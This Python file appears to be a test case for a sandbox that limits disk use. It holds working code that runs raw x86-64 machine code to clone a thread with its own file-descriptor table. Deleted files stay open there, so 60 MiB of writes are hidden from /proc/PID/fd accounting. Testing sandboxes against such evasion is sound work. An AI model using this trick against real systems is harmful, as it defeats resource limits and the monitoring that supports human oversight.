"""Keeps removed files open in the descriptor table of a thread that has its own, which /proc/PID/fd does not show.

Threads of every library share one table; this one is started by machine code of its own. On other processors than
x86-64 it says only what it would try. Class: disk bytes.
"""

import ctypes
import mmap
import os
import time

from _accomplice import attack, target

EXPECT = "submissions may not do"

THREAD_WITHOUT_FILES = 0x10900  # CLONE_VM | CLONE_SIGHAND | CLONE_THREAD, without CLONE_FILES
CLONE_THEN_PAUSE = bytes.fromhex("b838000000 0f05 85c0 7401 c3 b822000000 0f05 ebf7")

stack = ctypes.create_string_buffer(65536)
private, everything = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
page = mmap.mmap(-1, 4096, private, everything)
page.write(CLONE_THEN_PAUSE)


def clone():
    code = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_long)(
        ctypes.addressof(ctypes.c_char.from_buffer(page))
    )
    if code(THREAD_WITHOUT_FILES, ctypes.addressof(stack) + 32768, 0) < 0:
        raise PermissionError(1, "Operation not permitted")


def in_another_table():
    if os.uname().machine != "x86_64":
        raise PermissionError(1, "Operation not permitted")
    kept, size = [], 15 * 2**20
    for number in range(4):
        kept.append(open(str(number), "wb", buffering=0))
        os.remove(str(number))
    clone()
    for each in kept:
        each.write(bytes(size))
        each.close()
    time.sleep(3)
    return len(kept) * size > target.disk


build_estimator = attack(in_another_table)
